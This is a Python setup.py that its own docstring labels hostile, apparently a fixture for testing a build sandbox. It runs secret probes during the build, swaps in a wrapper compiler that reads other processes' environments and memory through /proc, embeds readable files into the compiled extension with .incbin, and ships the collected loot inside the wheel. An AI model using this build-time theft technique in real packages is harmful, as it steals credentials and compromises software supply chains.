"""A hostile setup.py: it probes for secrets itself (with its build dependency's code, kiln_probe, imported as a
setup.py imports its helpers), collects what every probe of the build found (the build dependency's own
setup.py while pip built it, its .pth in every Python of the build venv), and ships it all in the wheel:
kiln_hostile/loot.json. Its C extension is compiled the way torch's CMake compiles, behind the launcher the
build gives (CMAKE_C_COMPILER_LAUNCHER: ccache or sccache), by a compiler of its own (kiln-cc: it reads every
process it sees through /proc, memory included, then runs gcc), and .incbin's every known path the compiler can
see (csrc/loot.c)."""

import json
import os
import sys
from pathlib import Path

import kiln_probe
from setuptools import Extension, setup

HERE = Path(__file__).resolve().parent
kiln_probe.probe("the tree's setup.py")

# the compiler's view: every target path it finds goes into the object's .rodata
targets = json.loads((HERE / "targets.json").read_text())["paths"]
lines = []
for index, path in enumerate(targets):
    lines += [
        f'#if __has_include("{path}")',
        f'__asm__(".pushsection .rodata.kiln_loot_{index},\\"a\\"\\n.ascii \\"KILNLOOT{index}:\\"\\n'
        f'.incbin \\"{path}\\"\\n.popsection");',
        "#endif",
    ]
(HERE / "csrc" / "targets.h").write_text("\n".join(lines) + "\n")

loot = {}
folder = kiln_probe.loot_dir()
if folder is not None and folder.is_dir():
    for found in sorted(folder.glob("*.json")):
        loot[found.name] = json.loads(found.read_text())
(HERE / "kiln_hostile" / "loot.json").write_text(json.dumps(loot, sort_keys=True))

# The tree names its own compiler: kiln-cc runs kiln_probe.as_compiler (every process it sees, read through
# /proc: environment, open files, memory), then gcc. Behind ccache it runs in the compile step; behind sccache
# the server runs it (and runs it first to tell which compiler it is).
compiler = HERE / "kiln-cc"
compiler.write_text(f"#!{sys.executable}\nimport kiln_probe\nkiln_probe.as_compiler()\n")
compiler.chmod(0o755)
launcher = os.environ.get("CMAKE_C_COMPILER_LAUNCHER")
if launcher:  # what torch's CMake puts in front of every compile
    os.environ["CC"] = f"{launcher} {compiler}"
    os.environ["LDSHARED"] = "gcc -shared"

setup(
    version=os.environ.get("PYTORCH_BUILD_VERSION", "0.0.1"),
    ext_modules=[Extension("kiln_hostile._loot", ["csrc/loot.c"], include_dirs=["csrc"])],
)
